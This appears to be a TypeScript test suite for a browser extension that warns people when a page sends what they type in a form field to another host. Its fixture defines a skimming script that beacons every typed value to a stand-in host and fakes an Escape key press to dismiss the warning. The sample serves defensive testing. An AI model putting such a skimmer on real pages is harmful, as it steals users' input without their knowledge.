import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { stateOf } from "../../cli/look.ts";
import type { SessionPage } from "../../cli/session.ts";
import { browsers, openStage, type Stage } from "./sessions.ts";

const page = `<!doctype html><title>Sign up</title><form action="/done" style="width: 300px; margin: 900px 0">
  <label>E-mail <input id="email" type="email"></label><br><label>City <input id="city"></label></form>
  <script src="http://cdn.sender.test/tell.js"></script>`;

const tell = `document.addEventListener("input", ({ target }) => {
  navigator.sendBeacon("http://in.sender.test/b", target.value);
  document.dispatchEvent(new KeyboardEvent("keydown", { key: "Escape", bubbles: true }));
});`;

describe.each(browsers)("the card beside a field, in %s", (browser) => {
  let stage: Stage;
  beforeAll(async () => {
    stage = await openStage(browser);
    stage.sites.put("*/card", page);
    stage.sites.put("cdn.sender.test/tell.js", { body: tell, type: "text/javascript" });
  });
  afterAll(() => stage?.close());

  const typeIn = async (site: string): Promise<SessionPage> => {
    const tab = await stage.session.open(`http://${site}/card`, 20_000);
    const target = { selector: "#email", frame: `http://${site}/` };
    const control = await tab.control(target);
    if (control === null) throw new Error("no field");
    await tab.fill(target, control, "canary.7391@mailbox.example");
    await expect
      .poll(async () => (await stateOf(stage.session, tab.tab)).report?.verdict.level)
      .toBe(3);
    return tab;
  };

  test("shows who got it, is closed with a key, and stays away for the day", async () => {
    const tab = await typeIn("one.example");
    await expect.poll(() => tab.evaluate(cardOf, null)).not.toBeNull();
    const card = await tab.evaluate(cardOf, null);
    // Nothing of it is the page's to read, and no key of the page's closes it.
    expect(card).toMatchObject({ root: null, text: "", covers: false, near: true, focus: "city" });
    expect(card?.markup).not.toMatch(/extension:|fieldguide/i);
    await tab.press("Escape");
    await expect.poll(() => tab.evaluate(cardOf, null)).toBeNull();
    expect(await tab.evaluate(fieldValue, null)).toContain("canary");
    await tab.close();
    const again = await typeIn("one.example");
    await new Promise((later) => setTimeout(later, 900));
    expect(await again.evaluate(cardOf, null)).toBeNull();
    await again.close();
  });

  test("empties the field when asked to, and leaves the person in it", async () => {
    const tab = await typeIn("two.example");
    await expect.poll(() => tab.evaluate(cardOf, null)).not.toBeNull();
    const card = await tab.evaluate(cardOf, null);
    if (card === null) throw new Error("no card");
    await pressFirstButton(tab, card);
    await expect.poll(() => tab.evaluate(cardOf, null)).toBeNull();
    expect(await tab.evaluate(fieldValue, null)).toBe("");
    await tab.press("a");
    expect(await tab.evaluate(fieldValue, null)).toBe("a");
    await tab.close();
  });

  test("is reached and answered by keyboard: quiet here, then everywhere", async () => {
    const settings = () => stage.session.desk.evaluate(settingsNow, null);
    const answer = async (site: string, button: number) => {
      const tab = await typeIn(site);
      await expect.poll(() => tab.evaluate(cardOf, null)).not.toBeNull();
      for (let tries = 0; tries < 5 && !(await tab.evaluate(isInCard, null)); tries++)
        await tab.press("Tab");
      for (let at = 0; at < button; at++) await tab.press("Tab");
      await tab.press("Enter");
      await expect.poll(() => tab.evaluate(cardOf, null)).toBeNull();
      // Whoever was in the card is back in the field, with what they typed.
      expect(await tab.evaluate(focused, null)).toBe("email");
      expect(await tab.evaluate(fieldValue, null)).toContain("canary");
      await tab.close();
    };
    await answer("three.example", 2);
    await expect.poll(settings).toMatchObject({ quietCards: ["three.example"] });
    await answer("four.example", 3);
    await expect.poll(settings).toMatchObject({ cards: false, quietCards: ["three.example"] });
    const quiet = await typeIn("five.example");
    await new Promise((later) => setTimeout(later, 900));
    expect(await quiet.evaluate(cardOf, null)).toBeNull();
    await quiet.close();
  });
});

/** In a page of the extension. */
const settingsNow = async (): Promise<object> => {
  const { storage } = (
    globalThis as unknown as {
      chrome: { storage: { local: { get(key: string): Promise<{ settings: object }> } } };
    }
  ).chrome;
  return (await storage.local.get("settings")).settings;
};

/** In the page: is the focus in the card? */
const isInCard = () => document.activeElement?.matches("html > div") === true;

const focused = () => document.activeElement?.id ?? "";

/** Looks for the button from the card's upper edge downwards. */
async function pressFirstButton(tab: SessionPage, { x, y, height }: Shown): Promise<void> {
  for (let down = 10; down < height; down += 8) {
    await tab.click(x + 40, y + down);
    if ((await tab.evaluate(cardOf, null)) === null) return;
  }
}

interface Shown {
  root: null | object;
  text: string;
  markup: string;
  covers: boolean;
  near: boolean;
  focus: string;
  x: number;
  y: number;
  height: number;
}

/** In the page: what it can tell of the card. */
function cardOf(): Shown | null {
  const host = document.querySelector("html > div");
  if (host === null) return null;
  const { left, top, right, bottom, height } = host.getBoundingClientRect();
  const covers = [...document.querySelectorAll("input")].some((field) => {
    const box = field.getBoundingClientRect();
    return box.left < right && left < box.right && box.top < bottom && top < box.bottom;
  });
  const field = document.querySelector("input")?.getBoundingClientRect() ?? null;
  return {
    root: host.shadowRoot,
    text: host.textContent ?? "",
    markup: host.outerHTML,
    covers,
    near: field !== null && Math.abs(field.top - top) < 60 && Math.abs(field.right - left) < 60,
    focus: document.activeElement?.id ?? "",
    x: left,
    y: top,
    height,
  };
}

const fieldValue = () => document.querySelector("input")?.value ?? "";
